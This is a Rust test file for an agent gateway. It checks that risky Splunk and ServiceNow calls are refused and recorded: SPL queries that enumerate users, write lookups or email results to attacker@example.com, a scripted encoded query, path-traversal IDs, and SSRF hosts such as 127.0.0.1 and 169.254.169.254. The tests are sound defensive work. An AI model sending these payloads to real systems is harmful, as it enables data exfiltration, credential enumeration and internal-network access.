//! Where a call may go (issue 8, points 7, 8 and 10): refused query-language commands,
//! path values that would leave their segment, bounded fan-out and bounded answers,
//! instance variables checked by type. Every refusal is a 400 naming the param, recorded,
//! and no request reaches the target.

use arx_core::store::prelude::*;
use arx_testkit::{Backend, backend_tests};
use serde_json::{Value, json};

use crate::harness::{TestServer, error_message};

const TRIAGE: &str = "triage-agent";

/// The org's `execute.rejected` records.
async fn rejections(s: &TestServer) -> Vec<Value> {
    s.audit_of("execute.rejected").await
}

/// Sends `call`, expects a recorded `invalid_params` 400 whose message holds every one of
/// `says`, and no request at the simulator.
async fn refused(s: &TestServer, call: Value, says: &[&str]) {
    let before = s.sim().request_count();
    let recorded = rejections(s).await.len();
    let (status, body) = s.execute(&s.agent_key(TRIAGE), call.clone()).await;
    assert_eq!(status, 400, "{}: {call} → {body}", s.backend);
    assert_eq!(
        body["error"]["code"], "invalid_params",
        "{}: {body}",
        s.backend
    );
    let message = error_message(&body);
    for s2 in says {
        assert!(
            message.contains(s2),
            "{}: '{s2}' not in {message}",
            s.backend
        );
    }
    let after = rejections(s).await;
    assert_eq!(
        after.len(),
        recorded + 1,
        "{}: the refusal is recorded",
        s.backend
    );
    let last = after.last().unwrap();
    assert_eq!(last["fields"]["code"], "invalid_params");
    assert_eq!(last["fields"]["message"], message, "{}", s.backend);
    assert_eq!(
        s.sim().request_count(),
        before,
        "{}: nothing reached the target for {call}",
        s.backend
    );
}

fn spl(search: &str) -> Value {
    json!({"connector": "splunk", "operation": "search:create", "params": {"search": search}})
}

backend_tests! {
    async fn dangerous_spl_is_refused_and_recorded(s: TestServer) {
        for q in [
            "| rest /services/authentication/users",
            "search index=main | COLLECT index=summary",
            "search index=main\n|\toutputlookup stolen.csv",
            "search x | sendemail to=attacker@example.com",
            "search x [ | rest /services/apps/local ]",
            "search x | `evil_macro`",
        ] {
            refused(&s, spl(q), &["search:create", "'search' is refused"]).await;
        }
        // The same deny list guards the SPL of a saved search.
        refused(
            &s,
            json!({"connector": "splunk", "operation": "saved_searches:write",
                   "params": {"name": "n", "search": "search x | delete"}}),
            &["'search' is refused", "delete"],
        )
        .await;
        // A scripted ServiceNow encoded query is refused too.
        refused(
            &s,
            json!({"connector": "servicenow", "operation": "incidents:read",
                   "params": {"query": "sys_created_on>JavaScript :gs.daysAgo(1)"}}),
            &["'query' is refused", "javascript"],
        )
        .await;
        // An ordinary search still goes through the pipeline (decided by policy).
        let (status, body) = s
            .execute(
                &s.agent_key(TRIAGE),
                spl("search index=main action=blocked | stats count by src"),
            )
            .await;
        assert!(
            status == 200 || status == 202,
            "{}: {status} {body}",
            s.backend
        );
    }
}

backend_tests! {
    async fn path_values_cannot_leave_their_segment(s: TestServer) {
        for sid in [
            "",
            ".",
            "..",
            "%2e%2e",
            "%2E%2e",
            "%252e%252e",
            "..%2f..%2fservices",
            "x/../../y",
        ] {
            refused(
                &s,
                json!({"connector": "splunk", "operation": "search:status", "params": {"sid": sid}}),
                &["'sid' must not be"],
            )
            .await;
        }
        refused(
            &s,
            json!({"connector": "servicenow", "operation": "changes:close",
                   "params": {"change_ids": ["CHG1", "%2e%2e"], "close_code": "successful", "close_notes": "n"}}),
            &["'change_ids[1]' must not be"],
        )
        .await;
        refused(
            &s,
            json!({"connector": "servicenow", "operation": "changes:close",
                   "params": {"change_ids": ["CHG1", {"a": 1}], "close_code": "successful", "close_notes": "n"}}),
            &["'change_ids[1]' must be a string or a number"],
        )
        .await;
    }
}

backend_tests! {
    async fn each_params_are_capped(s: TestServer) {
        let ids: Vec<String> = (0..=arx_core::request::MAX_EACH_ITEMS)
            .map(|i| format!("CHG{i}"))
            .collect();
        refused(
            &s,
            json!({"connector": "servicenow", "operation": "changes:close",
                   "params": {"change_ids": ids, "close_code": "successful", "close_notes": "n"}}),
            &["'change_ids' has 101 items", "at most 100"],
        )
        .await;
        // At the limit the call is taken (and escalates: a write).
        let ids: Vec<String> = (0..arx_core::request::MAX_EACH_ITEMS)
            .map(|i| format!("CHG{i}"))
            .collect();
        let (status, body) = s
            .execute(
                &s.agent_key(TRIAGE),
                json!({"connector": "servicenow", "operation": "changes:close",
                       "params": {"change_ids": ids, "close_code": "successful", "close_notes": "n"}}),
            )
            .await;
        assert_ne!(status, 400, "{}: {body}", s.backend);
    }
}

/// A vendor that answers 200 and then streams `a`s forever, counting what it sent.
async fn endless_target() -> (
    std::net::SocketAddr,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let sent = Arc::new(AtomicUsize::new(0));
    let counter = sent.clone();
    let app = axum::Router::new().fallback(move || {
        let counter = counter.clone();
        async move {
            let chunk = axum::body::Bytes::from(vec![b'a'; 64 * 1024]);
            let stream = futures::stream::repeat_with(move || {
                counter.fetch_add(chunk.len(), Ordering::Relaxed);
                Ok::<_, std::convert::Infallible>(chunk.clone())
            });
            axum::body::Body::from_stream(stream)
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (addr, sent)
}

backend_tests! {
    async fn an_endless_answer_is_cut_at_the_cap(s: TestServer) {
        use std::sync::atomic::Ordering;
        let (addr, sent) = endless_target().await;
        let (st, b) = s
            .admin()
            .post(
                "/v1/admin/instances",
                json!({"connector": "splunk", "name": "endless", "environment": "dev",
                       "variables": {"scheme": "http", "host": addr.to_string()},
                       "credentials": {"api_key": "k"}}),
            )
            .await;
        assert_eq!(st, 201, "{}: {b}", s.backend);
        let call = json!({"connector": "splunk", "operation": "search:status",
                          "instance": "endless", "params": {"sid": "1"}});
        let (status, body) = tokio::time::timeout(
            std::time::Duration::from_secs(20),
            s.execute(&s.agent_key(TRIAGE), call),
        )
        .await
        .expect("the call returns although the body never ends");
        assert_eq!(status, 200, "{}: {body}", s.backend);
        assert_eq!(body["result"]["truncated"], true, "{}: {body}", s.backend);
        let limit = arx_core::executor::MAX_RESPONSE_BYTES;
        assert_eq!(body["result"]["limit"], limit);
        // ARX stopped reading: what the vendor managed to send is the cap plus what
        // the socket buffers hold, not an unbounded stream.
        let n = sent.load(Ordering::Relaxed);
        assert!(n < 32 * limit, "{}: the vendor sent {n} bytes", s.backend);
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let later = sent.load(Ordering::Relaxed);
        assert!(later < 32 * limit, "{}: still reading: {later}", s.backend);
    }
}

/// The first admin's API token on a server started without the demo.
async fn bootstrap_token(s: &TestServer) -> String {
    let e = &s.running.engine;
    let b = s.running.bootstrap.as_ref().unwrap();
    let user = s
        .running
        .store
        .user_by_email(&b.email)
        .await
        .unwrap()
        .unwrap();
    e.system().issue_user_token(&user, "t").await.unwrap()
}

backend_tests! {
    async fn without_local_targets_instances_must_be_public_https_hosts(b: Backend) {
        let s = crate::harness::start_strict(b).await;
        let admin = bootstrap_token(&s).await;
        let as_admin = s.client(&admin);
        let post = |vars: Value| {
            let name = format!("i{}", uuid::Uuid::new_v4().simple());
            let instance = json!({"connector": "splunk", "name": name, "environment": "dev",
                                  "variables": vars});
            as_admin.post("/v1/admin/instances", instance)
        };
        for (vars, names) in [
            (json!({"host": "evil.example/services?x="}), "'host'"),
            (json!({"host": "user@evil.example"}), "'host'"),
            (json!({"host": "evil.example#x"}), "'host'"),
            (json!({"host": "splunk.example.com:8089 x"}), "'host'"),
            (json!({"host": "127.0.0.1:8089"}), "'host'"),
            (json!({"host": "169.254.169.254"}), "'host'"),
            (json!({"host": "[::1]:8089"}), "'host'"),
            (json!({"host": "2130706433:8089"}), "'host'"),
            (json!({"host": "localhost:8089"}), "'host'"),
            // The catalog's default host (localhost) is local too: it must be given.
            (json!({}), "'host'"),
            (
                json!({"host": "splunk.example.com", "scheme": "http"}),
                "'scheme'",
            ),
            (
                json!({"host": "splunk.example.com", "scheme": "file"}),
                "'scheme'",
            ),
        ] {
            let (status, body) = post(vars.clone()).await;
            assert_eq!(status, 400, "{b}: {vars} → {body}");
            let msg = error_message(&body);
            assert!(
                msg.contains(&format!("variable {names}")),
                "{b}: {vars} → {msg}"
            );
        }
        let (status, body) = post(json!({"host": "splunk.example.com:8089"})).await;
        assert_eq!(status, 201, "{b}: {body}");

        // A segment variable cannot climb out of its path either.
        let (status, body) = as_admin
            .post(
                "/v1/admin/instances",
                json!({"connector": "azure", "name": "a", "environment": "dev",
                   "variables": {"tenant_id": "../../evil", "subscription_id": "s"}}),
            )
            .await;
        assert_eq!(status, 400, "{b}: {body}");
        assert!(body.to_string().contains("'tenant_id'"), "{b}: {body}");

        // Webhook and Teams URLs: https to a public host only.
        for (kind, settings) in [
            (
                "webhook",
                json!({"url": "http://hooks.example/x", "secret": "s"}),
            ),
            (
                "webhook",
                json!({"url": "https://127.0.0.1:9/x", "secret": "s"}),
            ),
            (
                "teams",
                json!({"url": "https://169.254.169.254/latest/meta-data"}),
            ),
            ("teams", json!({"url": "http://teams.example/x"})),
        ] {
            let (status, body) = as_admin
                .put(&format!("/v1/admin/integrations/{kind}"), settings.clone())
                .await;
            assert_eq!(status, 400, "{b}: {kind} {settings} → {body}");
            assert!(body.to_string().contains("'url'"), "{b}: {body}");
        }
        let (status, body) = as_admin
            .put(
                "/v1/admin/integrations/webhook",
                json!({"url": "https://hooks.example/arx", "secret": "s"}),
            )
            .await;
        assert_eq!(status, 200, "{b}: {body}");
    }
}

backend_tests! {
    /// An instance stored with a local target (before the checks existed, or by another
    /// path) is refused again when a call is sent: nothing reaches it, the call is recorded.
    async fn a_stored_local_target_is_refused_at_send_time(b: Backend) {
        use std::sync::atomic::Ordering;
        let s = crate::harness::start_strict(b).await;
        let admin = bootstrap_token(&s).await;
        let as_admin = s.client(&admin);
        let (addr, sent) = endless_target().await;
        let e = &s.running.engine;
        let org = e.system().org_by_slug("default").await.unwrap().unwrap();
        let instance = arx_core::model::Instance {
            id: arx_core::ids::InstanceId::new(),
            org_id: org.id,
            connector: "splunk".into(),
            name: "stale".into(),
            environment: arx_core::model::Environment::Dev,
            variables: [
                ("scheme".to_string(), "http".to_string()),
                ("host".to_string(), addr.to_string()),
            ]
            .into(),
            sensitivity: None,
            sealed_credentials: None,
            credentials_set: false,
            created_ms: e.now_ms(),
        };
        s.running.store.create_instance(&instance).await.unwrap();
        let (status, body) = as_admin
            .put(
                &format!("/v1/admin/instances/{}/credentials", instance.id),
                json!({"api_key": "k"}),
            )
            .await;
        assert_eq!(status, 204, "{b}: {body}");
        let (status, body) = as_admin
            .post(
                "/v1/admin/agents",
                json!({"name": "reader", "owner": s.running.bootstrap.as_ref().unwrap().email}),
            )
            .await;
        assert_eq!(status, 201, "{b}: {body}");
        let agent = body["agent"]["id"].as_str().unwrap();
        let (status, key) = as_admin
            .post(&format!("/v1/admin/agents/{agent}/keys"), json!({}))
            .await;
        assert_eq!(status, 201, "{b}: {key}");
        let (status, m) = as_admin
            .post(
                &format!("/v1/admin/agents/{agent}/manifests"),
                crate::harness::open_manifest(&["splunk"]),
            )
            .await;
        assert_eq!(status, 201, "{b}: {m}");
        let (status, body) = s
            .execute(
                key["api_key"].as_str().unwrap(),
                json!({"connector": "splunk", "operation": "search:status", "params": {"sid": "1"}}),
            )
            .await;
        assert_eq!(status, 502, "{b}: {body}");
        let msg = error_message(&body);
        assert!(
            msg.contains("variable 'host'") && msg.contains("local address"),
            "{b}: {msg}"
        );
        assert_eq!(
            sent.load(Ordering::Relaxed),
            0,
            "{b}: nothing reached the target"
        );
        let result = s
            .running
            .store
            .audit_page(
                org.id,
                &arx_core::store::AuditQuery::newest(Default::default(), 10),
            )
            .await
            .unwrap()
            .into_iter()
            .find(|r| r.kind == "execute.result")
            .expect("the refused call is recorded");
        assert_eq!(result.fields["status"], "failed", "{b}");
    }
}

/// The console warns on every page while local targets are allowed, and only then.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_warns_when_local_targets_are_allowed() {
    let demo = crate::harness::start(Backend::Sqlite).await;
    let d = demo.demo();
    let cookie = demo
        .console_session(&d.admin_email, &d.admin_password)
        .await;
    let html = demo.page_html("/", &cookie).await;
    assert!(
        html.contains("data-testid=\"local-targets\""),
        "no banner in the demo"
    );
    assert!(html.contains("Local targets allowed"), "{html}");

    let strict = crate::harness::start_strict(Backend::Sqlite).await;
    let b = strict.running.bootstrap.as_ref().unwrap();
    let cookie = strict.console_session(&b.email, &b.password).await;
    let html = strict.page_html("/", &cookie).await;
    assert!(
        html.contains("data-testid=\"user\""),
        "the page rendered: {html}"
    );
    assert!(!html.contains("local-targets"), "a banner without the flag");
}
